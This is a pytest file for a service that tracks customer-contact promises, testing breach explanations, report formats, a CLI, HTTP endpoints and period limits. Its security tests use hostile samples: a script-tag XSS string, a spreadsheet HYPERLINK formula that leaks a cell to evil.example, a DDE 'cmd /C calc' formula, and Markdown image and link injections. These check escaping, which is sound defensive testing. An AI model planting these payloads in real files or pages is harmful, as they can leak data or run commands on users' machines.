"""Breach reports: exact figures, plain-language explanations, the three formats, the CLI and
``GET /reports/{team}`` through a real server."""

from __future__ import annotations

import csv
import io
import re
import shutil
import zipfile
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import in_process
import pytest
from markdown_it import MarkdownIt
from sqlalchemy import Engine, select, update

from conftest import Server
from engine.reading.period import DEFAULT_BOUNDS
from engine.reading.queries import Queries
from engine.reading.reports.build import Report, UnknownTeam, build_report
from engine.reading.reports.render import render, trend_svg
from engine.reading.reports.trend import WeekPoint, weekly_trend
from engine.service import PromiseService
from engine.spreadsheet import TRIGGERS, safe_cell
from engine.storage.database import session_factory
from engine.storage.schema import OutcomeRow
from rules.loader import load_catalog
from rules.models import Catalog

ROOT = Path(__file__).resolve().parents[1]

HOSTILE = "<script>alert(1)</script>"
SINCE = datetime(2024, 2, 26, tzinfo=UTC)  # Monday of 2024-W09
UNTIL = datetime(2024, 3, 11, tzinfo=UTC)  # Monday of 2024-W11


def record(id: str, when: str, **fields: Any) -> dict[str, Any]:
    """A record; ``when`` is UTC (London is on GMT in these weeks), e.g. "2024-03-01 16:00"."""
    base = {
        "id": id,
        "occurred_at": when.replace(" ", "T") + ":00Z",
        "customer_id": "C-1",
        "channel": "email",
        "direction": "inbound",
        "type": "message",
    }
    return {**base, **fields}


def email(id: str, when: str, case: str, **fields: Any) -> dict[str, Any]:
    return record(id, when, case_id=case, **fields)


def reply(id: str, when: str, case: str, **fields: Any) -> dict[str, Any]:
    return record(id, when, case_id=case, direction="outbound", **fields)


def handoff(id: str, when: str, team: str) -> dict[str, Any]:
    return record(
        id, when, case_id="K-9", channel="phone", direction="internal", type="handoff", team=team
    )


HISTORY = [
    # email-reply-1bd (contact-centre, objective 0.95), 8 business hours on uk-office.
    email("e2", "2024-02-26 10:00", "K-2"),
    reply("r2", "2024-02-26 11:00", "K-2"),  # kept, W09
    email("e3", "2024-02-27 10:00", "K-3"),
    reply("r3", "2024-02-27 12:00", "K-3"),  # kept, W09
    # Fri 16:00: 1.5 h on Friday, 6.5 h on Monday from 09:00: due Mon 15:30.
    email("e1", "2024-03-01 16:00", "K-1"),
    reply("r1", "2024-03-04 16:40", "K-1", team="contact-centre", agent="a-7"),  # broken, W10
    email("e4", "2024-03-05 09:00", "K-4"),
    reply("r4", "2024-03-05 10:00", "K-4"),  # kept, W10
    email("e5", "2024-03-06 09:00", "K-5", attributes={"subject": HOSTILE}),  # missed: W10
    email("e6", "2024-03-08 09:00", "K-6"),  # at risk from 15:00, due 17:00
    # ask-once (customer-care): given by phone, asked again by email.
    record(
        "p1",
        "2024-03-01 10:00",
        channel="phone",
        type="info_provided",
        team="claims",
        attributes={"item": "policy_number"},
    ),
    record(
        "q1",
        "2024-03-04 09:00",
        direction="outbound",
        type="info_requested",
        team="contact-centre",
        agent="a-3",
        attributes={"item": "policy_number"},
    ),
    # two-handoffs (operations): the third handoff of case K-9 breaks it.
    handoff("h1", "2024-03-04 09:00", "claims"),
    handoff("h2", "2024-03-04 10:00", "contact-centre"),
    handoff("h3", "2024-03-04 11:00", "operations"),
    # travel-guarantee (travel-support): 4 hours around the clock, no calendar.
    record("t1", "2024-03-04 09:00", case_id="T-1", channel="chat", type="problem_reported"),
    record("t1r", "2024-03-04 14:00", case_id="T-1", channel="chat", type="resolved"),
    record("t2", "2024-03-05 09:00", case_id="T-2", channel="chat", type="problem_reported"),
    record("t3", "2024-03-06 09:00", case_id="T-3", channel="chat", type="problem_reported"),
    record("t3c", "2024-03-06 15:00", case_id="T-3", channel="web", type="booking_cancelled"),
]

K1 = (
    "email received Fri 1 Mar 16:00; due Mon 4 Mar 15:30, UK office hours; "
    "first reply Mon 16:40, 70 minutes late"
)
K5 = "email received Wed 6 Mar 09:00; no reply by the due time Wed 6 Mar 17:00, UK office hours"


@pytest.fixture
def evaluated(service: PromiseService) -> PromiseService:
    service.ingest(HISTORY)
    service.advance(datetime(2024, 3, 8, 16, tzinfo=UTC))
    return service


def team_report(service: PromiseService, catalog: Catalog, team: str, since=SINCE) -> Report:
    return build_report(service.sessions, catalog, team, since, UNTIL)


def test_attainment_budget_and_trend_over_two_weeks(
    evaluated: PromiseService, catalog: Catalog
) -> None:
    (email_reply,) = team_report(evaluated, catalog, "contact-centre").promises
    assert (email_reply.kept, email_reply.broken) == (3, 2)
    assert email_reply.attainment == pytest.approx(0.6)
    budget = email_reply.budget
    assert budget is not None
    assert (budget.allowed, budget.used, budget.left) == (0.25, 2, -1.75)
    assert budget.left_share == pytest.approx(-7.0)
    assert email_reply.trend == [WeekPoint("2024-W09", 2, 0), WeekPoint("2024-W10", 1, 2)]
    assert email_reply.trend[1].attainment == pytest.approx(1 / 3)

    (second_week,) = team_report(
        evaluated, catalog, "contact-centre", since=datetime(2024, 3, 4, tzinfo=UTC)
    ).promises
    assert (second_week.kept, second_week.broken) == (1, 2)
    assert [p.week for p in second_week.trend] == ["2024-W10"]


def test_weekly_trend_fills_empty_weeks_and_draws_the_objective(
    evaluated: PromiseService,
) -> None:
    points = weekly_trend(
        evaluated.sessions,
        team="contact-centre",
        since=datetime(2024, 2, 19, tzinfo=UTC),
        until=UNTIL,
    )
    assert points == [
        WeekPoint("2024-W08", 0, 0),
        WeekPoint("2024-W09", 2, 0),
        WeekPoint("2024-W10", 1, 2),
    ]
    assert points[0].attainment is None
    svg = trend_svg(points, 0.95)
    assert svg.startswith("<svg") and svg.__html__() == svg
    assert 'stroke-dasharray="4 3"' in svg and "2024-W08" in svg and "2024-W10" in svg


def test_compliance_and_the_trend_count_a_decision_in_the_same_iso_week(
    service: PromiseService,
) -> None:
    """Monday 30 December 2024 is in week 1 of 2025, for the API's weeks and the report's."""
    service.ingest(
        [
            record(
                "t1", "2024-12-30 09:00", case_id="T-1", channel="chat", type="problem_reported"
            ),
            record("t1r", "2024-12-30 10:00", case_id="T-1", channel="chat", type="resolved"),
        ]
    )
    weeks = Queries(service.catalog, service.sessions).compliance(None, None, "week")
    assert [(w.group, w.kept, w.broken, w.compliance) for w in weeks] == [("2025-W01", 1, 0, 1.0)]
    assert weekly_trend(service.sessions, promise="travel-guarantee") == [
        WeekPoint("2025-W01", 1, 0)
    ]


def test_explanations_for_the_three_kinds(evaluated: PromiseService, catalog: Catalog) -> None:
    deadline = team_report(evaluated, catalog, "contact-centre").breaches
    assert [(b.scope, b.explanation) for b in deadline] == [("K-1", K1), ("K-5", K5)]
    assert [r.id for r in deadline[0].evidence] == ["e1", "r1"]
    assert deadline[1].evidence[0].attributes == {"subject": HOSTILE}

    (never,) = team_report(evaluated, catalog, "customer-care").breaches
    assert never.explanation == (
        "policy_number given by phone to claims Fri 1 Mar 10:00; "
        "asked again by email by contact-centre Mon 4 Mar 09:00"
    )
    (limit,) = team_report(evaluated, catalog, "operations").breaches
    assert limit.explanation == (
        "3 handoffs within 30 days (at most 2 allowed): Mon 4 Mar 09:00 by claims, "
        "Mon 4 Mar 10:00 by contact-centre, Mon 4 Mar 11:00 by operations"
    )
    assert limit.evidence_ids == ("h1", "h2", "h3")


def test_deadlines_around_the_clock_read_in_utc(
    evaluated: PromiseService, catalog: Catalog
) -> None:
    report = team_report(evaluated, catalog, "travel-support")
    assert report.promises[0].timezone == "UTC"
    assert [b.explanation for b in report.breaches] == [
        "problem reported by chat Mon 4 Mar 09:00; due Mon 4 Mar 13:00, around the clock; "
        "resolved by chat Mon 14:00, 60 minutes late",
        "problem reported by chat Tue 5 Mar 09:00; "
        "not resolved by the due time Tue 5 Mar 13:00, around the clock",
        "problem reported by chat Wed 6 Mar 09:00; "
        "not resolved by the due time Wed 6 Mar 13:00, around the clock; "
        "closed by booking cancelled Wed 6 Mar 15:00",
    ]


def test_each_evidence_record_is_stored_with_the_role_it_played(evaluated: PromiseService) -> None:
    with evaluated.sessions() as session:
        roles = {
            (row.promise_id, row.key): (row.evidence, row.roles)
            for row in session.scalars(select(OutcomeRow))
        }
    assert roles[("email-reply-1bd", "K-1#1")] == (["e1", "r1"], ["start", "stop"])
    assert roles[("email-reply-1bd", "K-5#1")] == (["e5"], ["start"])
    assert roles[("travel-guarantee", "T-3#1")] == (["t3", "t3c"], ["start", "cancel"])
    assert roles[("ask-once", "q1")] == (["p1", "q1"], ["first", "then"])
    assert roles[("two-handoffs", "h3")] == (["h1", "h2", "h3"], ["count"] * 3)
    assert roles[("two-handoffs", "h1")] == (["h1"], ["count"])


def test_outcomes_stored_before_roles_are_explained_by_position(
    evaluated: PromiseService, catalog: Catalog
) -> None:
    """Migration 0006 leaves older outcomes' roles NULL: the first record started a deadline,
    a later one closed it as a cancel if it was cancelled, else as a stop (a cancel after a
    breach then reads as a late stop, until the scope is evaluated again)."""
    with evaluated.sessions.begin() as session:
        session.execute(update(OutcomeRow).values(roles=None))

    assert [b.explanation for b in team_report(evaluated, catalog, "contact-centre").breaches] == [
        K1,
        K5,
    ]
    assert [b.explanation for b in team_report(evaluated, catalog, "travel-support").breaches] == [
        "problem reported by chat Mon 4 Mar 09:00; due Mon 4 Mar 13:00, around the clock; "
        "resolved by chat Mon 14:00, 60 minutes late",
        "problem reported by chat Tue 5 Mar 09:00; "
        "not resolved by the due time Tue 5 Mar 13:00, around the clock",
        "problem reported by chat Wed 6 Mar 09:00; due Wed 6 Mar 13:00, around the clock; "
        "booking cancelled by web Wed 15:00, 2 hours late",
    ]
    (never,) = team_report(evaluated, catalog, "customer-care").breaches
    assert never.explanation.startswith("policy_number given by phone to claims")
    (limit,) = team_report(evaluated, catalog, "operations").breaches
    assert limit.explanation.startswith("3 handoffs within 30 days (at most 2 allowed)")


CANCEL_BY_PATTERN = """\
id: reply-4h
title: A reported problem gets a reply within 4 hours
owner: travel-support
kind: deadline
scope: case_id
start: {type: problem_reported}
stop: {type: message, direction: outbound}
cancel: {attributes.reason: {matches: "spam\\\\sreport"}}
within: 4h
"""


def test_a_stop_is_explained_as_the_rules_core_took_it(db_engine: Engine, tmp_path: Path) -> None:
    """README: in ``matches``, ``\\s`` is the space only. A reply whose reason holds a tab
    is no cancel for the rules core, though Python's ``\\s`` would take it for one."""
    folder = tmp_path / "promises"
    folder.mkdir()
    for name in ("teams.yaml", "calendars.yaml"):
        shutil.copy(ROOT / "promises" / name, folder / name)
    (folder / "reply-4h.yaml").write_text(CANCEL_BY_PATTERN)
    catalog = load_catalog(folder)
    service = PromiseService(catalog, session_factory(db_engine))
    service.ingest(
        [
            record("t1", "2024-03-04 09:00", case_id="T-1", type="problem_reported"),
            reply("t1r", "2024-03-04 14:00", "T-1", attributes={"reason": "spam\treport"}),
        ]
    )

    (breach,) = team_report(service, catalog, "travel-support").breaches
    assert breach.explanation == (
        "problem reported by email Mon 4 Mar 09:00; due Mon 4 Mar 13:00, around the clock; "
        "first reply Mon 14:00, 60 minutes late"
    )


def test_drivers_and_what_is_at_risk(evaluated: PromiseService, catalog: Catalog) -> None:
    report = team_report(evaluated, catalog, "contact-centre")
    assert [(d.name, d.breaches) for d in report.by_channel] == [("email", 2)]
    assert [(d.name, d.breaches) for d in report.by_team] == [("(none)", 1), ("contact-centre", 1)]
    assert [(d.name, d.breaches) for d in report.by_agent] == [("(none)", 1), ("a-7", 1)]
    (risk,) = report.at_risk
    assert (risk.promise, risk.scope) == ("email-reply-1bd", "K-6")
    assert risk.due_at == datetime(2024, 3, 8, 17, tzinfo=UTC)


def test_unknown_team_names_the_known_ones(evaluated: PromiseService, catalog: Catalog) -> None:
    with pytest.raises(UnknownTeam, match="known teams are callbacks, contact-centre"):
        team_report(evaluated, catalog, "nobody")


def test_html_escapes_attributes_and_md_and_csv_parse(
    evaluated: PromiseService, catalog: Catalog
) -> None:
    report = team_report(evaluated, catalog, "contact-centre")

    html = render(report, "html")
    assert HOSTILE not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "<svg" in html and "70 minutes late" in html

    markdown = render(report, "md")
    rows = [line for line in markdown.splitlines() if line.startswith("| email-reply-1bd |")]
    cells = [c.strip() for c in rows[0].strip("|").split("|")]
    assert cells == ["email-reply-1bd", "3", "2", "60.0%", "95.0%", "0.25", "2", "-1.75 (-700.0%)"]
    assert K1 in markdown and HOSTILE not in markdown

    breaches = list(csv.DictReader(io.StringIO(render(report, "csv"))))
    assert [(b["scope"], b["explanation"], b["evidence_ids"]) for b in breaches] == [
        ("K-1", K1, "e1 r1"),
        ("K-5", K5, "e5"),
    ]
    assert breaches[0]["due_at"] == "2024-03-04T15:30:00+00:00"
    assert (breaches[0]["acting_team"], breaches[0]["agent"]) == ("contact-centre", "a-7")


def test_cli_writes_the_report_to_a_file(
    evaluated: PromiseService, db_engine: Engine, tmp_path: Path
) -> None:
    out = tmp_path / "report.md"
    url = db_engine.url.render_as_string(hide_password=False)
    done = in_process.promise(
        "report",
        "--team",
        "operations",
        "--from",
        "2024-02-26",
        "--to",
        "2024-03-11T00:00:00+00:00",
        "--format",
        "md",
        "--out",
        str(out),
        cwd=tmp_path,
        env={"PROMISE_DATABASE_URL": url, "PROMISE_DIR": str(ROOT / "promises")},
    )
    assert done.returncode == 0, done.stderr
    assert done.stdout == ""
    assert "3 handoffs within 30 days (at most 2 allowed)" in out.read_text()


def test_reports_over_http(server: Server) -> None:
    with server.client() as client:
        assert client.post("/interactions", json=HISTORY).status_code == 200
        server.wait_for(
            lambda: (
                len(client.get("/breaches", params={"team": "contact-centre"}).json()["items"]) == 2
            )
        )
        period = {"from": "2024-02-26T00:00:00Z", "to": "2024-03-11T00:00:00Z"}
        html = client.get("/reports/contact-centre", params=period)
        assert html.status_code == 200
        assert html.headers["content-type"].startswith("text/html")
        assert K1 in html.text and HOSTILE not in html.text

        answer = client.get("/reports/contact-centre", params={**period, "format": "csv"})
        assert answer.headers["content-type"].startswith("text/csv")
        rows = list(csv.DictReader(io.StringIO(answer.text)))
        assert [r["explanation"] for r in rows] == [K1, K5]

        unknown = client.get("/reports/nobody")
        assert unknown.status_code == 404 and "contact-centre" in unknown.json()["detail"]

    key = server.promise("keys", "create", "care", "--scopes", "read", "--team", "customer-care")
    with server.client(key.strip()) as care:
        assert care.get("/reports/contact-centre").status_code == 403
        own = care.get("/reports/customer-care", params={"format": "md"})
        assert own.status_code == 200 and own.headers["content-type"].startswith("text/markdown")
        assert "asked again by email by contact-centre" in own.text


# --- spreadsheet-safe CSV -----------------------------------------------------------------------

LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
CALC = "=cmd|' /C calc'!A0"


def test_safe_cell_quotes_formulas_and_leaves_numbers() -> None:
    cells = [LEAK, "+1+1", "-1+1", "@x", "\tx", "\rx", "-12", "-0.25", "+3", "1e-3", "a=1"]
    assert [safe_cell(c) for c in cells] == [
        "'" + LEAK, "'+1+1", "'-1+1", "'@x", "'\tx", "'\rx", "-12", "-0.25", "+3", "1e-3", "a=1",
    ]  # fmt: skip
    assert [safe_cell(v) for v in (-3, -0.5, None, True)] == [-3, -0.5, "", "True"]


def test_csv_of_reports_and_exports_cannot_run_formulas(server: Server) -> None:
    customer, case, agent = "@SUM(A1:A9)", CALC, LEAK  # no "/" in the customer: a path segment
    records = [
        email("f1", "2024-03-01 16:00", case, customer_id=customer),
        reply("g1", "2024-03-04 16:40", case, customer_id=customer, agent=agent, team="-2+3"),
    ]
    with server.client() as client:
        assert client.post("/interactions", json=records).json()["accepted"] == 2
        server.wait_for(
            lambda: (
                len(client.get("/breaches", params={"customer_id": customer}).json()["items"]) == 1
            )
        )
        period = {"from": "2024-02-26T00:00:00Z", "to": "2024-03-11T00:00:00Z", "format": "csv"}
        report = client.get("/reports/contact-centre", params=period).text
        archive = client.get(
            f"/customers/{quote(customer)}/export", params={"format": "zip"}
        ).content

    [breach] = csv.DictReader(io.StringIO(report))
    assert (breach["customer_id"], breach["scope"]) == ("'" + customer, "'" + case)
    assert (breach["agent"], breach["acting_team"]) == ("'" + agent, "'-2+3")
    files = zipfile.ZipFile(io.BytesIO(archive))
    interactions = list(csv.DictReader(io.StringIO(files.read("interactions.csv").decode())))
    assert [(r["customer_id"], r["case_id"]) for r in interactions] == [
        ("'" + customer, "'" + case)
    ] * 2
    every_cell = [
        cell
        for name in files.namelist()
        for row in csv.reader(io.StringIO(files.read(name).decode()))
        for cell in row
    ] + [cell for row in csv.reader(io.StringIO(report)) for cell in row]
    assert not [cell for cell in every_cell if cell.startswith(TRIGGERS)]


# --- markdown injection -------------------------------------------------------------------------

IMAGE = "![t](http://evil.example/track.png)"
LINK = "[click](http://evil.example/)"


def test_markdown_shows_values_as_text_never_as_images_links_or_html(
    service: PromiseService, catalog: Catalog
) -> None:
    service.ingest(
        [
            email("m1", "2024-03-01 16:00", IMAGE, attributes={"subject": IMAGE, "x": LINK}),
            reply("m2", "2024-03-04 16:40", IMAGE, team=IMAGE, agent=f"{LINK} *a* `b`|c\n# h"),
        ]
    )
    markdown = render(team_report(service, catalog, "contact-centre"), "md")
    html = MarkdownIt("commonmark").enable("table").render(markdown)

    assert "<img" not in html and "evil.example" not in "".join(re.findall(r"href=\S+", html))
    assert "<em>" not in html and "<code>" not in html and "<h1>h" not in html
    text = re.sub(r"<[^>]+>", "", html).replace("&quot;", '"')
    assert text.count(IMAGE) >= 4  # scope, team (twice: evidence and drivers), attributes
    assert f"{LINK} *a* `b`|c # h" in text


# --- bounds: periods and rows -------------------------------------------------------------------


def test_a_trend_shows_the_latest_weeks_of_the_bound_however_long_the_period(
    evaluated: PromiseService,
) -> None:
    long_ago = datetime(2000, 1, 3, tzinfo=UTC)
    weeks = weekly_trend(evaluated.sessions, promise="email-reply-1bd", since=long_ago)
    assert len(weeks) == DEFAULT_BOUNDS.max_weeks and weeks[-1].week == "2024-W10"
    few = weekly_trend(evaluated.sessions, promise="email-reply-1bd", until=UNTIL, max_weeks=2)
    assert [(w.week, w.kept, w.broken) for w in few] == [("2024-W09", 2, 0), ("2024-W10", 1, 2)]


def test_periods_are_bounded_and_reports_count_the_breaches_they_do_not_list(
    server_with: Callable[..., Server],
) -> None:
    server = server_with(PROMISE_REPORT_MAX_ROWS="1")  # one breach listed per promise
    ever = {"from": "0001-01-01T00:00:00Z", "to": "9999-12-31T00:00:00Z"}
    limit = "the longest allowed is 400 days (PROMISE_MAX_PERIOD_DAYS)"
    with server.client() as client:
        assert client.post("/interactions", json=HISTORY).status_code == 200
        server.wait_for(
            lambda: (
                len(client.get("/breaches", params={"team": "contact-centre"}).json()["items"]) == 2
            )
        )
        for path in ("/compliance", "/reports/contact-centre"):
            refused = client.get(path, params=ever)
            assert refused.status_code == 400 and limit in refused.json()["detail"]
        days_400 = {"from": "2024-01-01T00:00:00Z", "to": "2025-02-04T00:00:00Z"}
        assert client.get("/compliance", params=days_400).status_code == 200

        period = {"from": "2024-02-26T00:00:00Z", "to": "2024-03-11T00:00:00Z"}
        markdown = client.get("/reports/contact-centre", params={**period, "format": "md"})
        assert markdown.headers["x-breaches-not-shown"] == "1"
        assert "### Breaches (2)" in markdown.text and K1 in markdown.text
        assert "1 more not shown: the first 1 of the period are listed" in markdown.text
        assert K5 not in markdown.text
        assert "| email | 2 |" in markdown.text  # drivers count every breach
        html = client.get("/reports/contact-centre", params=period).text
        assert "1 more not shown" in html
        answer = client.get("/reports/contact-centre", params={**period, "format": "csv"})
        assert len(list(csv.DictReader(io.StringIO(answer.text)))) == 1
        assert answer.headers["x-breaches-not-shown"] == "1"

    with httpx.Client(base_url=server.url, headers={"Origin": server.url}) as browser:
        assert browser.post("/ui/login", data={"key": server.admin_key}).status_code == 303
        page = browser.get("/ui", params={"from": "0001-01-01", "to": "9999-12-31"})
        assert page.status_code == 400 and limit in page.text
        assert browser.get("/ui", params={"to": "9999-12-31"}).status_code == 200
